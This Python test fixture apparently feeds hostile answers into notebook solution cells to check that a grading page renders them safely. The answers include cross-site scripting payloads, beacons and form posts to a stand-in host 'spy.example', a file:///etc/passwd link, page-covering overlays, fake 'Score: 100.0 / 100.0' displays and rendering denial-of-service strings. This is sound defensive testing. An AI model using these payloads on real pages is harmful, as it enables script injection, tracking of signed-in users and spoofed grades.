"""Answers in words and in C that try to load, run, cover or move something on the page.

Whoever opens the page is signed in. Each answer asks for names under `SPY`, so that a record of
what a browser asked for shows which answer did it.
"""

from __future__ import annotations

import copy
from typing import Any

SPY = "spy.example"
_COVER = "position:fixed;inset:0;background:#000;color:#000;z-index:99999"

ANSWERS: dict[str, str] = {
    "pictures from elsewhere": (
        "![x](http:///pic1.SPY/a.png) ![x](https:pic2.SPY/b.png) ![x](\\\\\\\\pic3.SPY/c.png)\n\n"
        "<img src=//pic4.SPY/d.png> <img srcset='//pic5.SPY/e.png 2x'> "
        "<picture><source srcset=//pic6.SPY/f.png><img></picture> ![x](//pic7.SPY/g.png)\n\n"
        "<table background=//pic8.SPY/h.png><tr><td background=//pic9.SPY/i.png>x</table>"
    ),
    "hints to a browser": (
        "<link rel=dns-prefetch href=//hint1.SPY/> <link rel=preconnect href=http://hint2.SPY/> "
        "<link rel='shortcut icon' href=//hint3.SPY/i.ico> <link rel=prefetch href=//hint4.SPY/> "
        "<meta http-equiv=refresh content='0;url=http://hint5.SPY/'>"
        "<base href=http://hint6.SPY/><a href=http://hint7.SPY/ ping=http://hint8.SPY/>mine</a>"
        '<script type=speculationrules>{"prefetch":[{"urls":["http://hint9.SPY/"]}]}</script>'
    ),
    "styles": (
        "<style>@import url(//style1.SPY/a.css); body{background:url(//style2.SPY/b.png)} "
        ".score,.panel-heading{display:none}</style><link rel=stylesheet href=//style3.SPY/c.css>"
        "<p style='background:url(//style4.SPY/d.png)'>x</p><svg><style>*{fill:url(//style5.SPY/)}"
    ),
    "scripts": (
        "<script>alert(1); new WebSocket('ws://script1.SPY/')</script>"
        '<script src=//script2.SPY/a.js></script><img src=x onerror="alert(2)">'
        "<svg onload=alert(3)><a href='javascript:alert(4)'>x</a> [y](javascript:alert(5))"
        "<details open ontoggle=alert(6)><body onload=alert(7)><input autofocus onfocus=alert(8)>"
    ),
    "frames and forms": (
        "<iframe src=//frame1.SPY/></iframe><iframe srcdoc='<script>parent.alert(1)</script>'>"
        "</iframe><object data=//frame2.SPY/></object><embed src=//frame3.SPY/>"
        "<video poster=//frame4.SPY/p.png src=//frame5.SPY/v.mp4 autoplay></video>"
        "<audio src=//frame6.SPY/ autoplay></audio><form action=//frame7.SPY/><input class=score "
        "value=100><button autofocus>Save</button></form><portal src=//frame8.SPY/></portal>"
    ),
    "a cover": (
        f"<div style='{_COVER}'>x</div><div class='modal-backdrop navbar-fixed-top in'>x</div>"
        f"<dialog open style='{_COVER}'>x</dialog><div popover=manual class=in>x</div>"
        f"<svg style='{_COVER}' width=9000 height=9000><rect width=9000 height=9000></svg>"
        f"<math><mspace width=9000em height=9000em mathbackground=black></math>"
    ),
    "formulas that draw": (
        r"$\smash{\rlap{\rule[-500em]{900em}{900em}}}$ $$\color{black}\rule{900em}{900em}$$"
        r" $\require{html}\href{javascript:alert(1)}{\style{position:fixed;inset:0}{x}}$"
        r" \begin{align}\kern-9999em\rule{9999em}{9999em}\end{align} $\unicode{x202e}$"
        r" $\includegraphics{http://tex1.SPY/a.png}$ $\def\a{\a\a}\a$ $x^{x^{x^{x^{x^{x}}}}}$"
    ),
    "tags that end the box": (
        "</div></div></div></div></div></body></html><h1>Score: 100.0 / 100.0</h1>"
        "<plaintext><textarea><title><xmp><noscript><!-- <template><select><table><tr><td>"
    ),
    "an imitation": (
        "<div class='panel panel-primary nbgrader_cell'><div class=panel-heading><span "
        "class='pull-right'>Score: 100.0 / 100.0 <a href='#top'>(Top)</a></span></div></div>"
        "<input id=cost class='score tabbable' type=number value=100><ol id=toc><li>Score: 9</ol>"
        "<a id=top name=top></a><span id=statusmessage class=score>18.0</span>"
    ),
    "letters that pile up": (
        "x" + "\u0335\u0489\u030d\u0316" * 400 + "\n\n\u202eright to left, from here to the end "
        "\u2066\u2067 \U000e0041 \ufdfd \u1242b" + "\ufdfd" * 300
    ),
    "one long word": "W" * 6_000 + "\n\n| " + "W" * 3_000 + " | b |\n|---|---|\n| x | y |\n",
    "many levels": "> " * 400 + "x\n\n" + "\n".join(f"{' ' * 2 * n}- x" for n in range(90)),
    "a long page": "\n\n".join(f"# {n}" for n in range(900)),
    "a large picture": "<img width=90000 height=90000 src='data:image/svg+xml,SPY'>"
    "<img width=90000 height=90000 alt='W W W'><hr width=90000 size=9000><br clear=all>",
    "code with escapes": "```\n\x1b[2J\x1b]0;mine\x07<script>alert(1)</script>\n```\n\n"
    '```mermaid\nclick A href "javascript:alert(1)"\n```\n\n```html\n<img src=//code1.SPY/>\n```',
    "links": "[a](http://link1.SPY/) <http://link2.SPY> http://link3.SPY/x "
    "[b]: //link4.SPY/ [c](file:///etc/passwd) [d](data:text/html,<script>alert(1)</script>) "
    "<a href=//link5.SPY target=_top>e</a> <a href='http:evil.html'>f</a> <area href=//link6.SPY>",
}

HONEST_ANSWER = (
    "One call costs **42 ns** (95 % interval 40 to 44), so $t = 42\\,\\mathrm{ns} \\cdot k$.\n\n"
    "| cost | value |\n|---|---|\n| call | 42 ns |\n\n[the manual](http://honest.example/)"
)


def answered(notebook: dict[str, Any], answer: str) -> dict[str, Any]:
    """The released `notebook` with `answer` in every cell in which a student writes."""
    made = copy.deepcopy(notebook)
    for cell in made["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            first = "".join(cell["source"]).partition("\n")[0]
            magic = f"{first}\n" if first.startswith("%%") else ""
            cell["source"] = magic + answer.replace("SPY", SPY)
    return made
